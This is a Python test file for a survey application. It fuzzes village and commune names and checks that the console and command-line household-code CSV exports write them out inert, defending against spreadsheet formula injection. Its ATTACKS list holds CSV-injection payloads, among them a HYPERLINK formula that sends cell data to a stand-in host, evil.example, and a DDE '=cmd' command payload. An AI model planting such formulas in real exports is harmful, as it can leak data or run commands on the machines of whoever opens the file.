"""The household-code CSV holds live codes: nothing in it may be a formula, whoever named the villages.

Village names and codes come from frame CSVs (``read_frame``), commune names from the unit import; a name
such as ``=HYPERLINK(…)`` or ``=cmd|…`` must reach the console download and ``flask codes issue --csv`` inert.
"""
from __future__ import annotations

import csv
import io

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from survey_app.errors import InputError
from survey_app.exports.safe import FORMULA_START, sheet_text
from survey_app.extensions import db
from survey_app.models import Commune, FrameVillage
from survey_app.services.units import read_frame

from ..factories import DEMO_COMMUNE, make_survey

HEADER = ["village_code", "village_name", "serial", "code", "url", "commune_code", "commune_name"]
FUZZ = settings(max_examples=20,
                suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.filter_too_much])
ATTACKS = ['=HYPERLINK("http://evil.example/?c="&C2,"Bấm vào đây")', "@X1", "=cmd|' /C calc'!A0", "+1+2",
           "-2+3", "\t=1+1", "\r=1", "=1\r\n=2", '"=1",=2', "@SUM(A1:A2)"]
#: What a frame CSV or a unit list could hold: a known attack, or any text behind a formula character.
NAME = st.one_of(
    st.sampled_from(ATTACKS),
    st.builds(lambda start, rest: start + rest, st.sampled_from(["=", "+", "-", "@", "\t", "\r", " =", ""]),
              st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=40)),
)


def frame_csv(rows: list[tuple[str, str, int]]) -> bytes:
    """A frame CSV as a commune's office would send it (quoted by Excel where needed)."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["village_code", "village_name", "households"])
    writer.writerows(rows)
    return out.getvalue().encode("utf-8")


def read_codes(data: bytes) -> list[list[str]]:
    """The rows of a codes CSV, checked to be inert: no cell starts with a formula character."""
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline=""), strict=True))
    assert rows[0] == HEADER and all(len(row) == len(HEADER) for row in rows)
    for row in rows[1:]:
        assert not any(cell.startswith(FORMULA_START) for cell in row), row
    return rows[1:]


def rename(app, survey_id: int, data) -> dict[int, tuple[str, str]]:
    """Import hostile village names and codes through a frame CSV and give the commune a hostile name;
    return frame village id → (code, name) as stored. Adds one household per village (one more code)."""
    with app.app_context():
        frames = db.session.query(FrameVillage).filter_by(survey_id=survey_id).order_by(FrameVillage.id).all()
        codes = [data.draw(NAME, label="village code")[:18] + str(n) for n in range(len(frames))]
        names = [data.draw(NAME, label="village name") for _ in frames]
        try:
            rows = read_frame(frame_csv([(c, n, f.households + 1) for c, n, f in zip(codes, names, frames)]))
        except InputError:
            assume(False)  # not a frame the import accepts (a blank or duplicate code, a blank name)
        stored = {}
        for frame, row in zip(frames, rows, strict=True):
            frame.village.code, frame.village.name = row.village_code, row.village_name
            frame.households = row.households
            stored[frame.id] = (row.village_code, row.village_name)
        db.session.get(Commune, DEMO_COMMUNE).full_name = data.draw(NAME, label="commune name")[:160]
        db.session.commit()
        return stored


def expected_cells(app, stored: dict[int, tuple[str, str]]) -> tuple[set, str]:
    """(village code, village name) cells and the commune's cell, as the results exports write them."""
    with app.app_context():
        commune = db.session.get(Commune, DEMO_COMMUNE).full_name
    return {(sheet_text(code), sheet_text(name)) for code, name in stored.values()}, sheet_text(commune)


@pytest.fixture
def named_survey(app):
    survey_id, _ = make_survey(app, villages=(("T01", "Thôn Một", 1), ("T02", "Thôn Hai", 1)))
    return survey_id


@pytest.fixture
def staff(as_user):
    return as_user("staff_commune")


@FUZZ
@given(data=st.data())
def test_console_download_neutralises_hostile_names(app, staff, named_survey, data):
    stored = rename(app, named_survey, data)
    response = staff.get(f"/staff/surveys/{named_survey}/codes.csv")
    assert response.status_code == 200
    rows = read_codes(response.data)
    villages, commune = expected_cells(app, stored)
    assert {(row[0], row[1]) for row in rows} == villages
    assert {row[6] for row in rows} == {commune}


@FUZZ
@given(data=st.data())
def test_cli_csv_neutralises_hostile_names(app, runner, named_survey, tmp_path, data):
    stored = rename(app, named_survey, data)  # one household more per village: one new code each
    path = tmp_path / "codes.csv"
    result = runner.invoke(args=["codes", "issue", str(named_survey), "--csv", str(path), "--spare", "0"])
    assert result.exit_code == 0, result.output
    rows = read_codes(path.read_bytes())
    villages, commune = expected_cells(app, stored)
    assert len(rows) == 2 and {(row[0], row[1]) for row in rows} == villages
    assert {row[6] for row in rows} == {commune}


def test_console_and_cli_write_the_same_file(app, as_user, runner, tmp_path):
    survey_id, _ = make_survey(app, villages=(("=T1", "=HYPERLINK(\"x\")", 1),), status="draft")
    path = tmp_path / "codes.csv"
    with app.app_context():
        frame = db.session.query(FrameVillage).filter_by(survey_id=survey_id).one()
        frame.households = 2
        db.session.commit()
    assert runner.invoke(args=["codes", "issue", str(survey_id), "--csv", str(path), "--spare", "0"]).exit_code == 0
    console = as_user("staff_commune").get(f"/staff/surveys/{survey_id}/codes.csv").data
    assert path.read_bytes() == console.replace(console.splitlines(keepends=True)[1], b"")  # serial 1 was not new
